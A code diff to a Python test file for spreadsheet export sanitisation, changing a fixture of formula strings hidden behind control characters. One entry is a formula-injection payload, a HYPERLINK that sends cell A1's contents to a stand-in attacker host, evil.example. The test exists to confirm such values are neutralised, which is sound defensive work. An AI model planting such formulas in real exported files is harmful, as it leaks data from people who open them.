@@ -315,8 +315,9 @@ def test_control_characters_are_dropped_in_both_formats_before_formulas_are_neut
     assert xlsx_row[2] == "'=1+1", "dropping the control exposed a formula: neutralised after"
 
 
+# Stored by older rows or other paths (PostgreSQL cannot store a NUL: see the test below).
 HIDDEN_FORMULAS = {
-    "NUL": '\x00=HYPERLINK("https://evil.example/?"&A1,"Open")',
+    "start of heading": '\x01=HYPERLINK("https://evil.example/?"&A1,"Open")',
     "escape": "\x1b+1+1",
     "DEL": "\x7f-1+1",
     "C1 control": "\x85@SUM(A1)",
